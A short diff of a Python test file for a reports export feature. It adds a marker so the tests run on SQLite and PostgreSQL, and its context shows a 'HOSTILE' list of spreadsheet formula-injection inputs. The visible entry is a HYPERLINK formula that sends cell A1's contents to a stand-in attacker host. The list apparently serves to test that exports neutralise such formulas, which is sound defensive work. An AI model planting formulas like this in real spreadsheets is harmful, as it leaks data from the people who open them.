@@ -12,6 +12,8 @@ from openpyxl import load_workbook
 from reports import exports
 from reports.tests.factories import make_unit_scores
 
+pytestmark = pytest.mark.anydb  # on SQLite and again on PostgreSQL (pytest --postgres)
+
 OCT = date(2025, 10, 1)
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
